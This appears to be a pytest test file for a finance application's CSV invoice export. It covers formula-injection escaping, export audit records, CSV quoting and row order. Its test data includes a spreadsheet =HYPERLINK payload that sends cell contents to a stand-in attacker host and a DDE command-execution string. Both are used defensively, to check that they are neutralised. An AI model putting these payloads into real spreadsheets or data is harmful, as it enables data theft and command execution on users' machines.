"""CSV exports: streamed, one invoice or one invoice line a row, spreadsheet-safe, and every one recorded."""

import csv
import datetime
import io

import pytest

from finance.exports import cell_safe
from finance.models import ExportRecord
from invoices.models import Invoice
from tests.factories import AccountFactory
from tests.finance.helpers import clocked_account_make, invoice_make
from tests.helpers import text

URL = "/finance/invoices/export.csv"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="invoices-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def book(alice, charlie):
    purchase = invoice_make(alice.account, "297.00", issued_on=datetime.date(2026, 1, 5),
                            lines=[("item", "3 × Pro monthly", 3, "99.00", "297.00")])
    credit = invoice_make(alice.account, "-14.90", kind=Invoice.CREDIT_NOTE, issued_on=datetime.date(2026, 2, 1),
                          refers_to=purchase)
    top_up = invoice_make(charlie.account, "40.00", kind=Invoice.TOP_UP, issued_on=datetime.date(2026, 3, 1),
                          credit_applied="5.00")
    invoice_make(clocked_account_make(), "999.00")
    return {"purchase": purchase, "credit": credit, "top_up": top_up}


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Alice Events", "Alice Events"), ("", ""), (None, ""), ("a=b", "a=b"),
])
def test_a_cell_that_would_be_a_formula_is_made_text(value, safe):
    assert cell_safe(value) == safe


def test_one_invoice_a_row_of_the_filtered_set(finance_client, book):
    table = rows(finance_client.get(URL, {"q": "Alice", "sort": "issued"}))
    assert table[0][:4] == ["number", "issued_on", "kind", "status"]
    assert [row[0] for row in table[1:]] == [book["purchase"].number, book["credit"].number]
    credit = dict(zip(table[0], table[2], strict=True))
    assert credit["total"] == "-14.90"  # our own numbers stay numbers
    assert credit["refers_to"] == book["purchase"].number
    assert credit["account"] == "Alice Events" and credit["kind"] == "Credit note"


def test_one_invoice_line_a_row(finance_client, book):
    table = rows(finance_client.get(URL, {"rows": "lines", "sort": "issued"}))
    assert table[0][:2] == ["number", "issued_on"]
    body = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [(row["number"], row["position"], row["amount"]) for row in body] == [
        (book["purchase"].number, "1", "297.00"), (book["credit"].number, "1", "-14.90"),
        (book["top_up"].number, "1", "45.00"), (book["top_up"].number, "2", "-5.00")]
    assert body[0]["quantity"] == "3" and body[0]["unit_price"] == "99.00"
    assert body[3]["line_kind"] == "credit_applied"


def test_a_hostile_account_name_reaches_the_spreadsheet_as_text(finance_client, db):
    account = AccountFactory(name=HOSTILE)
    invoice_make(account, "10.00", description="+cmd|' /C calc'!A0")
    for kind in ["invoices", "lines"]:
        table = rows(finance_client.get(URL, {"rows": kind}))
        header, row = table[0], dict(zip(table[0], table[1], strict=True))
        assert row["account"] == "'" + HOSTILE, header
        for cell in table[1]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The search page shows it escaped, as text.
    page = text(finance_client.get("/finance/invoices/"))
    assert "=HYPERLINK(&quot;http://evil.example/" in page


def test_every_export_is_recorded_and_listed(finance_client, finance_user, book):
    assert not ExportRecord.objects.exists()
    rows(finance_client.get(URL, {"q": "Alice", "status": "credited"}))
    rows(finance_client.get(URL, {"rows": "lines"}))
    first, second = ExportRecord.objects.order_by("pk")
    assert (first.user, first.format, first.row_count, first.filters) == (
        finance_user, ExportRecord.INVOICES_CSV, 1, {"q": "Alice", "status": "credited"})
    assert (second.format, second.row_count, second.filters) == (ExportRecord.LINES_CSV, 4, {})
    page = text(finance_client.get("/finance/invoices/"))
    assert "q=Alice, status=credited" in page and "everything" in page
    assert page.count(f'<td data-label="Who">{finance_user.email}</td>') == 2
    assert page.count('<td data-label="Format">CSV, one invoice a row</td>') == 1
    assert f'<time datetime="{first.created_at.isoformat()}">' in page


def test_the_export_form_carries_the_search_filter(finance_client, book):
    page = text(finance_client.get("/finance/invoices/", {"kind": "top_up", "issued_from": "2026-01-01"}))
    form = page.split('action="/finance/invoices/export.csv"')[1].split("</form>")[0]
    assert 'name="kind" value="top_up"' in form and 'name="issued_from" value="2026-01-01"' in form
    assert 'name="rows"' in form


def test_commas_quotes_and_line_breaks_reach_the_spreadsheet_intact(finance_client, alice):
    awkward = 'Event "Gala", Hall B\nsecond line'
    invoice_make(alice.account, "12.50", description=awkward,
                 lines=[("item", "Booth, 2 days", 1, "12.50", "12.50")])
    response = finance_client.get(URL)
    body = b"".join(response.streaming_content)
    assert body.startswith(b"number,issued_on,kind,status,")
    table = list(csv.reader(io.StringIO(body.decode())))
    row = dict(zip(table[0], table[1], strict=True))
    assert (row["description"], row["total"], row["issued_on"]) == (awkward, "12.50", datetime.date.today().isoformat())
    lines = rows(finance_client.get(URL, {"rows": "lines"}))
    assert dict(zip(lines[0], lines[1], strict=True))["line_description"] == "Booth, 2 days"


def test_every_row_of_a_large_export_arrives_once_in_order(finance_client, alice):
    made = [invoice_make(alice.account, f"{n}.00", issued_on=datetime.date(2026, 1, 1) + datetime.timedelta(days=n))
            for n in range(1, 41)]
    table = rows(finance_client.get(URL, {"sort": "issued"}))
    assert [row[0] for row in table[1:]] == [invoice.number for invoice in made]
